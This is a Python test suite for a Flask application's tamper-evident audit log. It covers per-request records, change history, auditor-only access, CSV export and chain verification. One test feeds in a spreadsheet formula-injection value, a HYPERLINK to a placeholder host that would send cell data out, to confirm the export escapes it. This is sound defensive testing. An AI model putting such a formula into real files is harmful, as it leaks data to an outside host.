"""The app's audit trail: one record per request, changes with before/after, auditors only."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

from flask import Flask
from keys import AUDIT_KEY
from web.client import Client

from collab.access import audit
from collab.access.audit import Kind, Origin
from collab.graph.sqlite_engine import SqliteStore


def test_exactly_one_record_per_request(fresh_app: Flask, fresh: SqliteStore) -> None:
    client = Client(fresh_app)
    client.sign_in("coord")
    requests = [lambda: client.get("/"), lambda: client.get("/browse/Clue"),
                lambda: client.get("/browse/Clue/XS-2023-0001"),
                lambda: client.get("/browse/Clue/ZT-2023-0001"),
                lambda: client.get("/no/such/page"), lambda: client.get("/dashboard/data.json"),
                lambda: client.post("/language", {"lang": "en", "next": "/"}),
                lambda: client.post("/logout", csrf=False),
                lambda: client.get("/browse/Clue?page=x")]
    for request in requests:
        before = fresh.count("AuditRecord")
        request()
        assert fresh.count("AuditRecord") == before + 1
    before = fresh.count("AuditRecord")
    assert client.get("/static/css/collab.css").status_code == 200
    assert fresh.count("AuditRecord") == before
    assert fresh.read(lambda tx: audit.verify(tx, AUDIT_KEY)).ok


def test_a_view_record_says_who_what_where_and_which_request(fresh_app: Flask,
                                                             fresh: SqliteStore) -> None:
    client = Client(fresh_app)
    client.sign_in("liaison")
    response = client.http.get("/browse/Clue/XS-2023-0001",
                               environ_base={"REMOTE_ADDR": "10.20.30.40"})
    record = fresh.find("AuditRecord", order_by="seq", descending=True, limit=1).items[0]
    assert record.get("user") == "liaison" and record.get("role") == "liaison"
    assert record.get("department") == "D532628-JW" and record.get("address") == "10.20.30.40"
    assert record.get("kind") == "view" and record.get("event") == "nodes.detail"
    assert (record.get("object_label"), record.get("object_key")) == ("Clue", "XS-2023-0001")
    assert record.get("outcome") == "ok" and record.get("at").tzinfo is not None
    assert record.get("request_id") == response.headers["X-Request-Id"]


def test_a_change_records_before_and_after_in_its_own_transaction(fresh_app: Flask,
                                                                  fresh: SqliteStore) -> None:
    admin = Client(fresh_app)
    admin.sign_in("sys")
    admin.post("/admin/users/insp/disable")
    record = fresh.find("AuditRecord", where={"event": "user.disable"}).items[0]
    assert record.get("kind") == "change" and record.get("object_key") == "insp"
    assert '"before":{"disabled":false' in record.get("detail")
    assert '"after":{"disabled":true' in record.get("detail")
    assert "password_hash" not in record.get("detail") and "scrypt" not in record.get("detail")
    admin.post("/admin/users/nobody/disable")
    failed = fresh.find("AuditRecord", order_by="seq", descending=True, limit=1).items[0]
    assert failed.get("event") == "user.disable" and failed.get("outcome") == "not_found"


def test_object_pages_show_their_change_history(fresh_app: Flask, fresh: SqliteStore) -> None:
    fresh.write(lambda tx: audit.append(
        tx, key=AUDIT_KEY, origin=Origin("coord", "coordinator"), kind=Kind.CHANGE,
        event="clue.transfer", object_label="Clue", object_key="XS-2023-0001",
        detail={"before": {"status": "registered"}, "after": {"status": "transferred"}}))
    client = Client(fresh_app)
    client.sign_in("lead")
    page = client.get("/browse/Clue/XS-2023-0001").text
    assert "移交线索" in page and "已登记" in page  # the event and the state before, by name


def test_only_the_audit_admin_reads_and_exports(fresh_app: Flask, fresh: SqliteStore) -> None:
    probe = Client(fresh_app)
    probe.sign_in("coord")
    probe.get("/browse/Clue/" + quote('=HYPERLINK("http://x/?"&A1)', safe=""))
    auditor = Client(fresh_app)
    auditor.sign_in("aud")
    page = auditor.get("/audit/?user=coord")
    assert page.status_code == 200 and "nodes.detail" in page.text
    exported = auditor.get("/audit/export.csv?user=coord")
    rows = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))))
    assert rows and all(r["user"] == "coord" for r in rows)
    keys = [r["object_key"] for r in rows if "HYPERLINK" in r["object_key"]]
    assert keys == ["'=HYPERLINK(\"http://x/?\"&A1)"]
    assert "intact" in auditor.get("/audit/verify").text or "完整" in \
        auditor.get("/audit/verify").text
    last = fresh.find("AuditRecord", order_by="seq", descending=True, limit=1).items[0]
    assert last.get("event") == "auditlog.verify"
    for name in ("sys", "sec", "coord"):
        other = Client(fresh_app)
        other.sign_in(name)
        assert other.get("/audit/").status_code == 404
        assert other.get("/audit/export.csv").status_code == 404


def test_a_broken_chain_is_named_in_the_readers_language(fresh_app: Flask,
                                                         fresh: SqliteStore) -> None:
    auditor = Client(fresh_app)
    auditor.sign_in("aud")
    fresh.upsert_nodes("AuditRecord", [{"no": f"{2:012d}", "user": "somebody.else"}])
    verdict = auditor.get("/audit/verify").text
    assert "第 2 条记录在写入后被改动" in verdict and "altered" not in verdict
    auditor.post("/language", {"lang": "en", "next": "/"})
    assert "record 2 was altered after it was written" in auditor.get("/audit/verify").text


def test_no_route_changes_or_deletes_audit_records(fresh_app: Flask) -> None:
    for rule in fresh_app.url_map.iter_rules():
        if rule.rule.startswith("/audit"):
            assert rule.methods <= {"GET", "HEAD", "OPTIONS"}, rule.rule


AUDIT_URLS = ("/audit/", "/audit/export.csv", "/audit/verify", "/audit/000000000001",
              "/browse/AuditRecord/000000000001", "/browse/AuditRecord",
              "/browse/AuditHead/main", "/api/v1/nodes/AuditRecord",
              "/api/v1/nodes/AuditRecord/000000000001")


def test_no_method_on_any_audit_url_changes_a_record(signed_in: dict[str, Client],
                                                      site: SqliteStore) -> None:
    """Every method on every URL that names the audit trail, as every account (with its
    CSRF token): only the audit admin's GETs answer; the records stay as they were, each
    attempt adds its own record, and the chain still verifies."""
    kept = hashes(site)
    tried = 0
    for name, client in signed_in.items():
        for url in AUDIT_URLS:
            for method in ("GET", "POST", "PUT", "PATCH", "DELETE"):
                before = site.count("AuditRecord")
                response = client.http.open(url, method=method,
                                            data={"csrf_token": client.token, "user": "x"},
                                            headers={"X-CSRFToken": client.token})
                reads = method == "GET" and name == "aud" and url.startswith("/audit/") \
                    and url != "/audit/000000000001"
                assert (response.status_code == 200) == reads, (name, method, url)
                assert response.status_code in (200, 400, 401, 404, 405), (name, method, url)
                assert site.count("AuditRecord") == before + 1, (name, method, url)
                tried += 1
    assert tried == len(signed_in) * len(AUDIT_URLS) * 5
    after = hashes(site)
    assert {k: after[k] for k in kept} == kept
    assert site.read(lambda tx: audit.verify(tx, AUDIT_KEY)).ok


def hashes(store: SqliteStore) -> dict[str, str]:
    """Every record's hash, by its number."""
    out: dict[str, str] = {}
    while len(out) < store.count("AuditRecord"):
        page = store.find("AuditRecord", order_by="seq", limit=1000, offset=len(out))
        out |= {n.key: n.get("hash") for n in page.items}
    return out
